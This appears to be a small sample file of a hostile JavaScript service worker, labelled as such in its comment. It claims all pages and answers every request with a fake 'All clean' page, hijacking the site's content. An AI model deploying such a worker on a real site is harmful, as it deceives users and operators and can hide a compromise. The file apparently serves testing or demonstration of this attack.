// A hostile service worker: every later page of the site would be this clean page.
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  event.respondWith(new Response('<!doctype html><html lang="en"><title>Fake</title><main><h1>All clean</h1></main>',
                                 {headers: {"Content-Type": "text/html"}}));
});
